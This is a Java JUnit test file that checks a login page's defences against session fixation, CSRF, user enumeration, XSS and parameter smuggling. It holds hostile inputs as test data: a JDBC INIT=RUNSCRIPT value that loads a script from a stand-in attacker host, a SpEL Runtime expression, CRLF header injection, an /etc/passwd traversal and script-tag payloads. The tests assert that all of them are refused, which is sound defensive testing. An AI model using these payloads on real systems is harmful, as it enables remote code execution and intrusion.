package dev.connections.autoconfigure.login;

import static dev.connections.autoconfigure.login.Browser.LOGIN;
import static dev.connections.autoconfigure.login.Browser.LOGOUT;
import static dev.connections.autoconfigure.login.Browser.header;
import static dev.connections.autoconfigure.login.LoginServer.ALICES_PASSWORD;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.HttpCookie;
import java.net.http.HttpResponse;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Attacks on sessions, forms, and what is shown. */
@Timeout(60)
class LoginAttackTests {

    private static LoginServer server;

    private final Browser alice = new Browser(server.port());

    private final Browser mallory = new Browser(server.port());

    @BeforeAll
    static void start() {
        server = LoginServer.start(
                "connections.warehouse.login.title=<script>alert(1)</script>\"'&",
                "connections.warehouse.login.form.user=\"><img src=x>",
                "connections.warehouse.login.form.database={database}",
                "connections.warehouse.login.max-failures=1000",
                "connections.warehouse.login.max-failures-per-address=1000");
    }

    @AfterAll
    static void stop() throws Exception {
        server.close();
    }

    private String sessionOf(Browser browser) {
        return browser.cookies.getCookieStore().getCookies().stream()
                .filter(cookie -> cookie.getName().equals("JSESSIONID"))
                .map(HttpCookie::getValue)
                .findFirst()
                .orElseThrow();
    }

    @Test
    void whoKnewTheSessionBeforeDoesNotShareTheLogin() {
        mallory.get(LOGIN);
        String fixed = sessionOf(mallory);
        String csrf = mallory.csrf();
        // the victim has been made to use the session of the attacker
        HttpResponse<String> loggedIn = alice.form(
                LOGIN,
                Map.of("user", "alice", "password", ALICES_PASSWORD, "_csrf", csrf),
                "Cookie",
                "JSESSIONID=" + fixed);
        assertThat(loggedIn.statusCode()).isEqualTo(303);
        assertThat(sessionOf(alice)).isNotEqualTo(fixed);
        assertThat(alice.api("/reports/x").body()).isEqualTo("ALICE");
        assertThat(mallory.api("/reports/x").statusCode()).isEqualTo(401);
        assertThat(alice.csrf()).isNotEqualTo(csrf);
    }

    @Test
    void aSessionIdInTheUrlIsNoLogin() {
        alice.logIn("alice", ALICES_PASSWORD);
        String before = sessionOf(alice);
        alice.logIn("alice", ALICES_PASSWORD);
        assertThat(mallory.api("/reports/x;jsessionid=" + before).statusCode()).isEqualTo(401);
    }

    @Test
    void aFormWithoutTheTokenOfTheSessionIsRefused() {
        String others = mallory.csrf();
        alice.get(LOGIN);
        for (String token : new String[] {null, "", "x", others}) {
            Map<String, String> fields = new HashMap<>(Map.of("user", "alice", "password", ALICES_PASSWORD));
            if (token != null) {
                fields.put("_csrf", token);
            }
            HttpResponse<String> refused = alice.form(LOGIN, fields);
            assertThat(refused.statusCode()).as(token).isEqualTo(403);
            assertThat(refused.body()).contains("role=\"alert\"").doesNotContain(ALICES_PASSWORD);
        }
        assertThat(new Browser(server.port())
                        .form(LOGIN, Map.of("user", "alice", "password", ALICES_PASSWORD, "_csrf", others))
                        .statusCode())
                .isEqualTo(403);
        assertThat(alice.api("/reports/x").statusCode()).isEqualTo(401);
    }

    @Test
    void nobodyIsLoggedOutByAForgedForm() {
        alice.logIn("alice", ALICES_PASSWORD);
        assertThat(alice.form(LOGOUT, Map.of()).statusCode()).isEqualTo(403);
        assertThat(alice.form(LOGOUT, Map.of("_csrf", mallory.csrf())).statusCode())
                .isEqualTo(403);
        assertThat(alice.get(LOGOUT).statusCode()).isEqualTo(200);
        assertThat(alice.api("/reports/x").body()).isEqualTo("ALICE");
    }

    @Test
    void whatIsNoFieldIsNotLookedAt() {
        Map<String, String> forged = new HashMap<>(Map.of(
                "user", "alice",
                "password", ALICES_PASSWORD,
                "url", "jdbc:h2:mem:evil",
                "dialect", "duckdb",
                "host", "evil.example",
                "query.INIT", "create table evil(x int)",
                "properties.x", "y",
                "options.account", "evil",
                "login.options.account", "evil"));
        forged.put("pool.maximum-size", "1000");
        forged.put("connections.warehouse.dialect", "duckdb");
        forged.put("scope", "principal");
        forged.put("id", "principal bob");
        assertThat(alice.logIn(forged).statusCode()).isEqualTo(303);
        assertThat(alice.api("/reports/x").body()).isEqualTo("ALICE");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x;INIT=RUNSCRIPT FROM 'http://evil.example/x'",
                "x&a=b",
                "x?socketFactory=evil",
                "${user.home}",
                "#{T(java.lang.Runtime).getRuntime()}",
                "x\r\nSet-Cookie: a=b",
                "x\u0000y",
                "../../etc/passwd",
                "x'y",
                "x\"y",
                "x/y",
                "x\\y"
            })
    void aValueThatMeansMoreThanItselfIsRefused(String value) {
        HttpResponse<String> refused =
                alice.logIn(Map.of("user", "alice", "password", ALICES_PASSWORD, "database", value));
        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(header(refused, "Set-Cookie")).isNull();
        HttpResponse<String> json = mallory.json(
                LOGIN,
                "{\"user\":\"alice\",\"password\":\"in wonderland\",\"database\":\""
                        + value.replace("\\", "\\\\")
                                .replace("\"", "\\\"")
                                .replace("\r\n", "\\r\\n")
                                .replace("\u0000", "\\u0000")
                        + "\"}");
        assertThat(json.statusCode()).isEqualTo(400);
        assertThat(json.body()).contains("\"failure\":\"invalid\"");
    }

    @Test
    void nobodyLearnsWhichUsersThereAre() {
        String wrong = page(alice.logIn("alice", "wrong"), "alice");
        String unknown = page(mallory.logIn("nobody", "wrong"), "nobody");
        assertThat(unknown).isEqualTo(wrong);
        assertThat(alice.json(LOGIN, "{\"user\":\"alice\",\"password\":\"x\"}").body())
                .isEqualTo(alice.json(LOGIN, "{\"user\":\"nobody\",\"password\":\"x\"}")
                        .body());
    }

    private static String page(HttpResponse<String> response, String user) {
        assertThat(response.statusCode()).isEqualTo(401);
        return response.body().replace(Browser.csrfIn(response.body()), "TOKEN").replace(user, "USER");
    }

    @Test
    void aConnectionWithoutALoginHasNoLoginPage() {
        for (String name : new String[] {"nothing", "connections", "defaults", "warehouse2", "%00", "a.b", ".."}) {
            assertThat(alice.get("/connections/" + name + "/login").statusCode())
                    .as(name)
                    .isIn(400, 404);
        }
        HttpResponse<String> unknown = alice.json("/connections/nothing/login", "{}");
        assertThat(unknown.statusCode()).isEqualTo(404);
        assertThat(unknown.body()).doesNotContain("warehouse", "login page");
    }

    @Test
    void whatIsShownIsNoHtml() {
        String page = alice.logIn(Map.of("user", "\"><script>alert(2)</script>'", "password", "x"))
                .body();
        assertThat(page)
                .doesNotContain("<script", "<img")
                .contains("&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&amp;")
                .contains("value=\"&quot;&gt;&lt;script&gt;alert(2)&lt;/script&gt;&#39;\"");
        assertThat(mallory.get(LOGIN).body())
                .doesNotContain("<script", "<img")
                .contains("value=\"&quot;&gt;&lt;img src=x&gt;\"");
        String problem = alice.api("/reports/%3Cscript%3E").body();
        assertThat(problem).doesNotContain("<");
    }

    @Test
    void aLongUserIsNotShownAgainAtLength() {
        String page = alice.logIn("u".repeat(100_000), "x").body();
        assertThat(page.length()).isLessThan(8_000);
    }

    @Test
    void theSpellingOfTheConnectionIsNotTakenFromTheRequest() {
        HttpResponse<String> page = alice.get("/connections/WAREHOUSE/login");
        assertThat(page.body())
                .contains("action=\"/connections/warehouse/login\"")
                .doesNotContain("WAREHOUSE");
    }
}
